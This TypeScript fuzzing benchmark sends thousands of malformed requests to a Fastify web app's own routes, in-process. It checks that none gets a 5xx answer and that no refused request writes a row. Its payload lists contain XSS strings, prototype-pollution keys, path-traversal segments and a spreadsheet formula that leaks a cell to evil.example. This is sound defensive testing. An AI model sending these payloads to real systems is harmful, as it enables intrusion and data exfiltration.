/**
 * Bad input over every write route and form (issue 9, "Done when"): thousands of malformed
 * requests, and for each one the answer's status and whether a refused request changed any row
 * count. Goal: 0 × 5xx, and no refused request (4xx) writes a row.
 *
 *   node bin/run-ts.js bench/fuzz.ts [--dialects=sqlite,postgres] [--dry-run] [--verbose]
 *   npm run bench -- fuzz --dialects=sqlite
 *
 * The routes come from the server itself (Fastify's route tree), so a new route is fuzzed without
 * touching this file. Each route's parameters are filled with ids of the demo municipality that the
 * route accepts (the first candidate that does not answer 404), the editor's forms are sent with a
 * live session and a valid CSRF token (so the bodies reach the handlers), the API with a token that
 * holds every scope. The base of each body is a valid one: for a form, the fields of its page as
 * rendered; for the API, the body schema of the OpenAPI document with plausible values. Then one
 * thing at a time goes wrong: a field (NUL, ESC, a lone surrogate, 100,000 characters, numbers out
 * of range, the year 0, `javascript:` links, `__proto__`, wrong types, repeated fields), the body
 * (text/plain, XML, invalid UTF-8, 10,000 nested arrays, prototype-pollution keys, unknown fields,
 * empty, over the size limit), or the path (NUL, 300 characters, bad percent-encoding, a random id).
 */
import { appendFileSync } from 'node:fs';
import { cpus } from 'node:os';
import { resolve } from 'node:path';
import { sql } from 'kysely';
import type { LightMyRequestResponse } from 'fastify';
import { DEMO_ACCOUNTS, DEMO_ORGANIZATION_SLUG, seedDemo, seedDemoCitizenVoice } from '../src/modules/demo';
import { actorOfUser, createApiToken, findUser, scopesAllowed, listMemberships } from '../src/modules/users';
import { anActiveSession } from '../src/modules/users/user.factory';
import type { DialectName } from '../src/storage';
import { openTestServer, routesOf, type TestServer } from '../src/web/testing';
import { startThrowawayPostgres, type ThrowawayCluster } from './pg';

type Method = 'POST' | 'PUT' | 'PATCH' | 'DELETE';
interface Route {
  method: Method;
  path: string;
}
interface Attempt {
  route: string;
  mutation: string;
  status: number;
  changed: string[];
  detail?: string;
}


// Tables a refused request may legitimately write: sessions (this run makes one per route), the
// login throttle (a failed login is counted: that is the point of it), the tokens' last use.
const BOOKKEEPING = /^(sessions|login_throttle|login_attempts|throttle.*|api_tokens|kysely_migration.*)$/;

const tablesOf = async (server: TestServer, dialect: DialectName): Promise<string[]> => {
  const db = server.deps.db;
  const rows =
    dialect === 'sqlite'
      ? (await sql<{ name: string }>`select name from sqlite_master where type = 'table' and name not like 'sqlite_%'`.execute(db)).rows
      : (await sql<{ name: string }>`select table_name as name from information_schema.tables where table_schema = current_schema() and table_type = 'BASE TABLE'`.execute(db)).rows;
  return rows.map((r) => r.name).filter((t) => !BOOKKEEPING.test(t)).sort();
};

const countRows = async (server: TestServer, tables: string[]): Promise<Map<string, number>> => {
  const parts = tables.map((t) => sql`select ${t} as t, count(*) as n from ${sql.table(t)}`);
  const { rows } = await sql<{ t: string; n: number | string }>`${sql.join(parts, sql` union all `)}`.execute(server.deps.db);
  return new Map(rows.map((r) => [r.t, Number(r.n)]));
};

const differs = (a: Map<string, number>, b: Map<string, number>): string[] => [...a.keys()].filter((t) => a.get(t) !== b.get(t));

// ---------------------------------------------------------------- the malformed values

const LONG = 'x'.repeat(100_000);
/** Values for one field; each replaces the field's valid value in an otherwise valid body. */
const TEXT_VALUES: [string, string][] = [
  ['NUL', 'tekst met\u0000NUL'],
  ['only NUL', '\u0000'],
  ['ESC sequence', 'rood\u001b[31m'],
  ['DEL and C1', 'a\u007fb\u0085c'],
  ['CR alone', 'regel\rregel'],
  ['lone surrogate', 'a\ud800b'],
  ['100,000 characters', LONG],
  ['empty', ''],
  ['spaces', '   '],
  ['number text', '-1'],
  ['huge number', '1e309'],
  ['NaN', 'NaN'],
  ['year 0', '0000-01-01'],
  ['year 9999', '9999-12-31'],
  ['30 February', '2026-02-30'],
  ['javascript: link', 'javascript:alert(1)//https://x'],
  ['data: link', 'data:text/html,<script>alert(1)</script>'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['toString', 'toString'],
  ['hasOwnProperty', 'hasOwnProperty'],
  ['formula', '=HYPERLINK("http://evil.example/?x="&A1,"klik")'],
  ['markup', '<script>alert(1)</script>'],
  ['not an id', '00000000-0000-0000-0000-000000000000'],
];
const JSON_VALUES: [string, unknown][] = [
  ['null', null],
  ['true', true],
  ['number', 12],
  ['negative', -1],
  ['huge', 1e308],
  ['fraction', 0.5],
  ['empty array', []],
  ['array of NUL', ['\u0000']],
  ['object', { a: 1 }],
  ['__proto__ object', JSON.parse('{"__proto__":{"polluted":1}}')],
];

/** Percent-encoding as a browser does it; a lone surrogate (which has no UTF-8) as the bytes of its code point, which are not UTF-8. */
const encode = (s: string): string => s.split(/(\p{Cs})/u).map((part) => (/^\p{Cs}$/u.test(part) ? `%${Buffer.from([0xed, 0xa0 | ((part.charCodeAt(0) >> 6) & 0x1f), 0x80 | (part.charCodeAt(0) & 0x3f)]).toString('hex').match(/../g)!.join('%')}` : encodeURIComponent(part))).join('');

const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

// ---------------------------------------------------------------- one dialect

interface Identity {
  cookie: string;
  csrf: string;
  bearer: string;
}

const run = async (dialect: DialectName, verbose: boolean) => {
  const server = await openTestServer(dialect, '2026-06-01T10:00:00Z', { rateLimit: false, loadShedding: false });
  try {
    const deps = { db: server.deps.db, clock: server.deps.clock };
    const { organizationId } = await seedDemo(deps);
    await seedDemoCitizenVoice(deps, organizationId);
    const adminAccount = DEMO_ACCOUNTS.find((a) => a.role === 'admin')!;
    const admin = (await findUser(deps, adminAccount.email))!;
    const memberships = await listMemberships(deps, admin.id);

    // Ids of every table with an `id` column, for the route parameters.
    const tables = await tablesOf(server, dialect);
    const ids = new Map<string, string[]>();
    for (const table of tables) {
      try {
        const { rows } = await sql<{ id: string }>`select id from ${sql.table(table)} limit 3`.execute(server.deps.db);
        if (rows.length > 0) ids.set(table, rows.map((r) => String(r.id)));
      } catch {
        // no id column
      }
    }
    const { rows: slugs } = await sql<{ slug: string }>`select slug from changes where published_at is not null limit 1`.execute(server.deps.db);
    const changeSlug = slugs[0]?.slug ?? 'x';

    const identity = async (): Promise<Identity> => {
      const session = await anActiveSession(deps, admin.id);
      const page = await server.app.inject({ method: 'GET', url: '/editor', headers: { accept: 'text/html', cookie: `helder_session=${session}` } });
      const csrfCookie = page.cookies.find((c) => c.name === 'helder_csrf')?.value ?? '';
      const token = /name="_csrf" value="([^"]+)"/.exec(page.body)?.[1] ?? '';
      const api = await createApiToken(deps, actorOfUser(admin, memberships), { name: 'fuzz', organizationId: memberships[0]!.organizationId, scopes: scopesAllowed(memberships.map((m) => m.role)) });
      return { cookie: `helder_session=${session}; helder_csrf=${csrfCookie}`, csrf: token, bearer: `Bearer ${api.token}` };
    };

    const openapi = (await server.app.inject({ method: 'GET', url: '/api/v1/openapi.json' })).json() as {
      paths: Record<string, Record<string, { requestBody?: { content?: Record<string, { schema?: JsonSchema }> } }>>;
    };

    await server.app.ready();
    const all = routesOf(server.app);
    const writes = all.filter((r) => r.method !== 'GET') as Route[];
    const gets = new Set(all.filter((r) => r.method === 'GET').map((r) => r.path));

    const attempts: Attempt[] = [];
    let counts = await countRows(server, tables);

    for (const route of writes) {
      const isApi = route.path.startsWith('/api/');
      const who = await identity();
      // Optimistic concurrency: a write that needs `If-Match` gets the current ETag of what it edits
      // (read again after each success), so the body is judged, not the missing precondition.
      let ifMatch: string | undefined;
      const send = async (url: string, payload: string | Buffer | undefined, contentType: string | undefined, extraHeaders: Record<string, string> = {}): Promise<LightMyRequestResponse> => {
        const headers: Record<string, string> = { accept: isApi ? 'application/json' : 'text/html', cookie: who.cookie, origin: 'http://localhost:8080', ...extraHeaders };
        if (isApi) headers.authorization = who.bearer;
        if (ifMatch) headers['if-match'] = ifMatch;
        if (contentType) headers['content-type'] = contentType;
        return server.app.inject({ method: route.method, url, headers, ...(payload === undefined ? {} : { payload }) });
      };

      // Fill the parameters: the first candidate the route does not answer 404 for.
      const params = [...route.path.matchAll(/:([A-Za-z]+)/g)].map((m) => m[1]!);
      const candidatesOf = (name: string, segment: string): string[] => {
        if (/^(org|slug)$/.test(name)) return [DEMO_ORGANIZATION_SLUG];
        if (name === 'change') return [changeSlug];
        if (name === 'date') return ['2026-01-31'];
        if (name === 'version') return ['1'];
        const guess = SEGMENT_TABLES[segment] ?? SEGMENT_TABLES[name] ?? '';
        return [...(ids.get(guess) ?? []), ...[...ids.entries()].filter(([t]) => t !== guess).flatMap(([, v]) => v.slice(0, 1))];
      };
      const fill = (choice: Record<string, string>) => route.path.replace(/:([A-Za-z]+)/g, (_, n: string) => encodeURIComponent(choice[n] ?? n));
      const choice: Record<string, string> = {};
      for (const name of params) {
        const segment = route.path.split('/').at(route.path.split('/').indexOf(`:${name}`) - 1) ?? '';
        const candidates = candidatesOf(name, segment);
        choice[name] = candidates[0] ?? 'x';
        if (candidates.length > 1) {
          for (const candidate of candidates.slice(0, 20)) {
            const probe = await send(fill({ ...choice, [name]: candidate }), isApi ? '{}' : `_csrf=${encodeURIComponent(who.csrf)}`, isApi ? 'application/json' : 'application/x-www-form-urlencoded');
            if (probe.statusCode !== 404) {
              choice[name] = candidate;
              break;
            }
          }
        }
      }
      const url = fill(choice);
      counts = await countRows(server, tables); // the probes may have written (a valid empty body)

      // The valid base body: a form as its page renders it, or the API's schema with plausible values.
      const readEtag = async () => {
        if (!isApi) return;
        if (!gets.has(route.path)) {
          ifMatch = '*';
          return;
        }
        const current = await server.app.inject({ method: 'GET', url, headers: { authorization: who.bearer } });
        const etag = current.headers.etag;
        // No readable ETag (a write without a GET of its own, e.g. a milestone): `*`, any revision.
        ifMatch = typeof etag === 'string' ? etag : '*';
      };
      await readEtag();
      let base: Record<string, unknown> = {};
      if (isApi) {
        const openapiPath = route.path.replace(/^\/api\/v1/, '').replace(/:([A-Za-z]+)/g, '{$1}');
        const schema = openapi.paths[openapiPath]?.[route.method.toLowerCase()]?.requestBody?.content?.['application/json']?.schema;
        base = (exampleOf(schema, ids) as Record<string, unknown> | undefined) ?? {};
      } else if (gets.has(route.path)) {
        const page = await server.app.inject({ method: 'GET', url, headers: { accept: 'text/html', cookie: who.cookie } });
        base = formFieldsOf(page.body);
      }
      delete base._csrf;
      const fields = Object.keys(base);

      const encodeForm = (body: Record<string, unknown>, raw = '') =>
        [`_csrf=${encodeURIComponent(who.csrf)}`, ...Object.entries(body).filter(([, v]) => v !== undefined).flatMap(([k, v]) => [v].flat().map((x) => `${encode(k)}=${encode(String(x))}`)), raw].filter(Boolean).join('&');
      const body = (b: Record<string, unknown>) => (isApi ? JSON.stringify(b) : encodeForm(b));
      const type = isApi ? 'application/json' : 'application/x-www-form-urlencoded';

      const cases: [string, () => Promise<LightMyRequestResponse>][] = [];
      for (const field of fields) {
        for (const [name, value] of TEXT_VALUES) cases.push([`${field}: ${name}`, () => send(url, body({ ...base, [field]: value }), type)]);
        if (isApi) for (const [name, value] of JSON_VALUES) cases.push([`${field}: ${name}`, () => send(url, body({ ...base, [field]: value }), type)]);
        else {
          cases.push([`${field}: repeated`, () => send(url, body({ ...base, [field]: [String(base[field] ?? ''), 'tweede'] }), type)]);
          cases.push([`${field}: %FF (not UTF-8)`, () => send(url, encodeForm({ ...base, [field]: undefined }, `${encodeURIComponent(field)}=%FF%FE`), type)]);
          cases.push([`${field}: %00`, () => send(url, encodeForm({ ...base, [field]: undefined }, `${encodeURIComponent(field)}=a%00b`), type)]);
        }
        cases.push([`${field}: left out`, () => send(url, body(Object.fromEntries(Object.entries(base).filter(([k]) => k !== field))), type)]);
      }
      const bodyCases: [string, string | Buffer | undefined, string | undefined][] = [
        ['unknown field', body({ ...base, junk: { a: [1, 2, 3] } }), type],
        ['unknown field __proto__', isApi ? `{"__proto__":{"polluted":1}${fields.length > 0 ? `,${JSON.stringify(base).slice(1)}` : '}'}` : `${encodeForm(base)}&__proto__=x&constructor=y`, type],
        ['constructor.prototype', isApi ? '{"constructor":{"prototype":{"polluted":1}}}' : `${encodeForm(base)}&constructor[prototype]=x`, type],
        ['text/plain', 'owner=X', 'text/plain'],
        ['XML', '<goal><owner>X</owner></goal>', 'application/xml'],
        ['no content type', body(base), undefined],
        ['form to JSON route / JSON to form route', isApi ? encodeForm(base) : JSON.stringify(base), isApi ? 'application/x-www-form-urlencoded' : 'application/json'],
        ['multipart', '--b\r\ncontent-disposition: form-data; name="x"\r\n\r\ny\r\n--b--\r\n', 'multipart/form-data; boundary=b'],
        ['invalid UTF-8', Buffer.concat([Buffer.from(isApi ? '{"a":"' : `_csrf=${encodeURIComponent(who.csrf)}&a=`), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(isApi ? '"}' : '')]), type],
        ['10,000 nested arrays', isApi ? `{"junk":${nested(10_000)}}` : `${encodeForm(base)}&${'a['.repeat(2000)}=1`, type],
        ['33 levels', isApi ? `{"junk":${nested(33)}}` : encodeForm(base), type],
        ['empty body', '', type],
        ['JSON null', 'null', 'application/json'],
        ['JSON array', '[]', 'application/json'],
        ['JSON string', '"tekst"', 'application/json'],
        ['broken JSON', '{"a":', 'application/json'],
        ['over the size limit', isApi ? `{"a":"${'x'.repeat(1_100_000)}"}` : `${encodeForm(base)}&a=${'x'.repeat(70_000)}`, type],
        ['without CSRF token / token', isApi ? body(base) : body(base).replace(/^_csrf=[^&]*&?/, ''), type],
      ];
      for (const [name, payload, contentType] of bodyCases) {
        cases.push([name, () => (name.startsWith('without') && isApi ? send(url, payload, contentType, { authorization: 'Bearer hld_nonsense' }) : send(url, payload, contentType))]);
      }
      for (const name of params) {
        for (const [label, value] of [['NUL', 'a%00b'], ['300 characters', 'a'.repeat(300)], ['bad percent-encoding', '%FF'], ['random id', '3f1c2a5e-8b7d-4c6e-9f0a-1b2c3d4e5f60'], ['__proto__', '__proto__'], ['dot segments', '..%2F..']] as const) {
          const mutated = route.path.replace(/:([A-Za-z]+)/g, (_, n: string) => (n === name ? value : encodeURIComponent(choice[n] ?? n)));
          cases.push([`path :${name}: ${label}`, () => send(mutated, body(base), type)]);
        }
      }
      cases.push(['query with NUL', () => send(`${url}?lang=%00`, body(base), type)]);

      for (const [mutation, request] of cases) {
        let response: LightMyRequestResponse;
        try {
          response = await request();
        } catch (error) {
          attempts.push({ route: `${route.method} ${route.path}`, mutation, status: 0, changed: [], detail: String(error) });
          continue;
        }
        const after = await countRows(server, tables);
        const changed = response.statusCode >= 400 ? differs(counts, after) : [];
        counts = after;
        if (response.statusCode < 400) {
          // A write went through: the record's version moved. Read the new ETag, or the form's
          // hidden fields again (a version field), so the next bad body meets a current record.
          await readEtag();
          if (!isApi && gets.has(route.path)) {
            const page = await server.app.inject({ method: 'GET', url, headers: { accept: 'text/html', cookie: who.cookie } });
            for (const [name, value] of Object.entries(formFieldsOf(page.body, 'hidden'))) if (name in base) base[name] = value;
          }
        }
        const attempt: Attempt = { route: `${route.method} ${route.path}`, mutation, status: response.statusCode, changed };
        if (response.statusCode >= 500 || changed.length > 0) attempt.detail = response.body.slice(0, 300);
        attempts.push(attempt);
        if (verbose && (response.statusCode >= 500 || changed.length > 0)) console.log(attempt);
        if (verbose && response.statusCode < 400 && /NUL|ESC|surrogate|DEL|year|javascript|data:|%FF|%00|CR alone/.test(mutation)) console.log('accepted', attempt.route, mutation, response.statusCode);
      }
    }
    // The reads too, with malformed parameters and query strings (they write nothing, so every
    // answer must simply not be a 5xx): the same parameter candidates, common query names.
    const reads = all.filter((r) => r.method === 'GET' && !r.path.includes('/assets/'));
    const who = await identity();
    counts = await countRows(server, tables); // the new token is audited
    for (const route of reads) {
      const isApi = route.path.startsWith('/api/');
      const headers = { accept: isApi ? 'application/json' : 'text/html', cookie: who.cookie, ...(isApi ? { authorization: who.bearer } : {}) };
      const get = (url: string) => server.app.inject({ method: 'GET', url, headers });
      const params = [...route.path.matchAll(/:([A-Za-z]+)/g)].map((m) => m[1]!);
      const choice: Record<string, string> = {};
      const fill = (c: Record<string, string>) => route.path.replace(/:([A-Za-z]+)/g, (_, n: string) => encodeURIComponent(c[n] ?? n));
      for (const name of params) {
        const segment = route.path.split('/').at(route.path.split('/').indexOf(`:${name}`) - 1) ?? '';
        const guess = SEGMENT_TABLES[segment] ?? SEGMENT_TABLES[name] ?? '';
        const candidates = /^(org|slug)$/.test(name) ? [DEMO_ORGANIZATION_SLUG] : name === 'change' ? [changeSlug] : name === 'date' ? ['2026-01-31'] : name === 'version' ? ['1'] : [...(ids.get(guess) ?? []), ...[...ids.values()].map((v) => v[0]!)];
        choice[name] = candidates[0] ?? 'x';
        for (const candidate of candidates.slice(0, 20)) {
          if ((await get(fill({ ...choice, [name]: candidate }))).statusCode !== 404) {
            choice[name] = candidate;
            break;
          }
        }
      }
      const url = fill(choice);
      const cases: [string, string][] = [];
      for (const key of QUERY_NAMES) for (const [label, value] of QUERY_VALUES) cases.push([`?${key}: ${label}`, `${url}?${key}=${value.replace('QUERY', key)}`]);
      for (const name of params) {
        for (const [label, value] of [['NUL', 'a%00b'], ['300 characters', 'a'.repeat(300)], ['bad percent-encoding', '%FF'], ['random id', '3f1c2a5e-8b7d-4c6e-9f0a-1b2c3d4e5f60'], ['__proto__', '__proto__'], ['dot segments', '..%2F..']] as const) {
          cases.push([`path :${name}: ${label}`, route.path.replace(/:([A-Za-z]+)/g, (_, n: string) => (n === name ? value : encodeURIComponent(choice[n] ?? n)))]);
        }
      }
      for (const [mutation, target] of cases) {
        const response = await get(target).catch((error: unknown) => ({ statusCode: 0, body: String(error) }) as LightMyRequestResponse);
        // A read writes nothing, whatever it is answered: every count must stay.
        const after = await countRows(server, tables);
        const attempt: Attempt = { route: `GET ${route.path}`, mutation, status: response.statusCode, changed: differs(counts, after) };
        counts = after;
        if (response.statusCode >= 500 || response.statusCode === 0 || attempt.changed.length > 0) {
          attempt.detail = response.body.slice(0, 300);
          if (verbose) console.log(attempt);
        }
        attempts.push(attempt);
      }
    }

    return { attempts, routes: writes.length, formRoutes: writes.filter((r) => !r.path.startsWith('/api/')).length, reads: reads.length };
  } finally {
    await server.close();
  }
};

/** Query parameters the pages and the API read, and bad values for them. */
const QUERY_NAMES = ['lang', 'pagina', 'page', 'pageSize', 'limit', 'soort', 'status', 'theme', 'organization', 'q', 'van', 'tot', 'from', 'to', 'uitspraak', 'vastgelegd', 'besloten', 'voor', 'opgeslagen', 'format'];
const QUERY_VALUES: [string, string][] = [
  ['NUL', '%00'],
  ['-1', '-1'],
  ['1e309', '1e309'],
  ['text', 'abc'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['repeated', 'a&QUERY=b'],
  ['bad percent-encoding', '%FF'],
  ['year 0', '0000-01-01'],
  ['long', 'x'.repeat(5000)],
];

/** Where a path segment (or parameter name) points: the table its ids come from. */
const SEGMENT_TABLES: Record<string, string> = {
  veranderingen: 'changes', changes: 'changes', doelen: 'goals', goals: 'goals', maatregelen: 'measures', measures: 'measures',
  besluiten: 'decisions', decisions: 'decisions', mijlpalen: 'milestones', milestoneId: 'milestones', reactions: 'reactions', reacties: 'reactions',
  moderatie: 'reactions', uitspraken: 'statements', verwachtingen: 'expectations', conflicten: 'conflicts', sleutels: 'api_tokens',
  gebruikers: 'users', groupId: 'groups', impacts: 'groups', gevolgen: 'impacts', bijdragen: 'contributions', metingen: 'measurements',
};

interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  enum?: unknown[];
  format?: string;
  anyOf?: JsonSchema[];
  items?: JsonSchema;
  minLength?: number;
  minimum?: number;
  default?: unknown;
}

/** A plausible valid value for a JSON schema: what a careful client would send. */
const exampleOf = (schema: JsonSchema | undefined, ids: Map<string, string[]>): unknown => {
  if (!schema) return undefined;
  if (schema.anyOf) return exampleOf(schema.anyOf.find((s) => s.type !== 'null') ?? schema.anyOf[0], ids);
  if (schema.enum) return schema.enum[0];
  const type = Array.isArray(schema.type) ? schema.type.find((t) => t !== 'null') : schema.type;
  if (type === 'object') {
    const out: Record<string, unknown> = {};
    for (const [key, value] of Object.entries(schema.properties ?? {})) out[key] = exampleOf(value, ids);
    return out;
  }
  if (type === 'array') return [];
  if (type === 'integer' || type === 'number') return Math.max(1, schema.minimum ?? 1);
  if (type === 'boolean') return true;
  if (schema.format === 'date') return '2026-01-31';
  if (schema.format === 'uri') return 'https://example.org/bron';
  if (schema.format === 'uuid') return ids.get('goals')?.[0] ?? '00000000-0000-4000-8000-000000000000';
  return 'Een gewone tekst van de fuzzer';
};

/** The fields of the first form on a page that posts (inputs, selects, textareas), with their rendered values. */
const formFieldsOf = (html: string, only?: 'hidden'): Record<string, unknown> => {
  const fields: Record<string, unknown> = {};
  for (const m of html.matchAll(/<(input|textarea|select)\b([^>]*)>/g)) {
    const attrs = m[2]!;
    const name = /\bname="([^"]+)"/.exec(attrs)?.[1];
    if (!name || name === '_csrf') continue;
    const type = /\btype="([^"]+)"/.exec(attrs)?.[1];
    if (only === 'hidden' && type !== 'hidden') continue;
    if ((type === 'checkbox' || type === 'radio') && !/\bchecked\b/.test(attrs) && name in fields) continue;
    const value = m[1] === 'textarea' ? (/^([^<]*)<\/textarea>/.exec(html.slice(m.index! + m[0].length))?.[1] ?? '') : m[1] === 'select' ? (/<option[^>]*value="([^"]*)"/.exec(html.slice(m.index!))?.[1] ?? '') : (/\bvalue="([^"]*)"/.exec(attrs)?.[1] ?? '');
    if (!(name in fields) || value) fields[name] = unescape(value);
  }
  return fields;
};
const unescape = (s: string) => s.replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');

// ---------------------------------------------------------------- report

const section = (results: { dialect: string; attempts: Attempt[]; routes: number; formRoutes: number; reads: number; seconds: number }[]): string => {
  const date = new Date().toISOString().slice(0, 10);
  const lines = [
    `## Bad input fuzz — ${date}`,
    '',
    `Machine: ${cpus()[0]?.model ?? 'unknown'}, ${cpus().length} cores, Node ${process.version}. In-process (\`inject()\`), the demo municipality, a live editor session with a valid CSRF token and an API token with every scope; routes read from the server's route tree (bench/fuzz.ts).`,
    '',
    '| dialect | write routes (forms) | requests to them | read routes (requests) | 2xx/3xx | 4xx | 5xx | refused (or read) yet rows changed | time |',
    '| --- | --- | --- | --- | --- | --- | --- | --- | --- |',
  ];
  for (const r of results) {
    const ok = r.attempts.filter((a) => a.status > 0 && a.status < 400).length;
    const refused = r.attempts.filter((a) => a.status >= 400 && a.status < 500).length;
    const failed = r.attempts.filter((a) => a.status >= 500 || a.status === 0).length;
    const changed = r.attempts.filter((a) => a.changed.length > 0).length;
    const readAttempts = r.attempts.filter((a) => a.route.startsWith('GET ')).length;
    lines.push(`| ${r.dialect} | ${r.routes} (${r.formRoutes}) | ${r.attempts.length - readAttempts} | ${r.reads} (${readAttempts}) | ${ok} | ${refused} | **${failed}** | **${changed}** | ${r.seconds.toFixed(0)} s |`);
  }
  const statuses = new Map<number, number>();
  for (const r of results) for (const a of r.attempts) statuses.set(a.status, (statuses.get(a.status) ?? 0) + 1);
  lines.push('', `Statuses over all runs: ${[...statuses].sort((a, b) => a[0] - b[0]).map(([s, n]) => `${s} × ${n}`).join(', ')}.`);
  const bad = results.flatMap((r) => r.attempts.filter((a) => a.status >= 500 || a.status === 0 || a.changed.length > 0).map((a) => ({ ...a, dialect: r.dialect })));
  if (bad.length > 0) {
    lines.push('', 'Failures (first 20):', '');
    for (const a of bad.slice(0, 20)) lines.push(`- ${a.dialect} \`${a.route}\` — ${a.mutation}: ${a.status}${a.changed.length > 0 ? `, rows changed in ${a.changed.join(', ')}` : ''}`);
  }
  return `${lines.join('\n')}\n`;
};

let started = false;

export const main = async (args: string[] = process.argv.slice(2)): Promise<void> => {
  started = true;
  const dialects = (args.find((a) => a.startsWith('--dialects='))?.split('=')[1] ?? 'sqlite,postgres').split(',') as DialectName[];
  const verbose = args.includes('--verbose');
  const results = [];
  for (const dialect of dialects) {
    let cluster: ThrowawayCluster | undefined;
    if (dialect === 'postgres' && !process.env.HELDER_TEST_POSTGRES_URL) {
      cluster = await startThrowawayPostgres();
      if (!cluster) throw new Error('no PostgreSQL server binaries: set HELDER_TEST_POSTGRES_URL or PG_BIN');
      process.env.HELDER_TEST_POSTGRES_URL = cluster.url;
    }
    try {
      const started = performance.now();
      const result = await run(dialect, verbose);
      results.push({ dialect, ...result, seconds: (performance.now() - started) / 1000 });
      console.log(`${dialect}: ${result.attempts.length} requests over ${result.routes} write routes`);
    } finally {
      cluster?.stop();
      if (cluster) delete process.env.HELDER_TEST_POSTGRES_URL;
    }
  }
  const text = section(results);
  console.log(`\n${text}`);
  if (!args.includes('--dry-run')) appendFileSync(resolve('BENCHMARKS.md'), `\n${text}`);
  const failed = results.some((r) => r.attempts.some((a) => a.status >= 500 || a.status === 0 || a.changed.length > 0));
  if (failed) process.exitCode = 1;
};

// Run directly, nothing calls main(): run it once the importer had its turn (see bench/polls.ts).
setImmediate(() => {
  if (!started) void main(process.argv.slice(2));
});
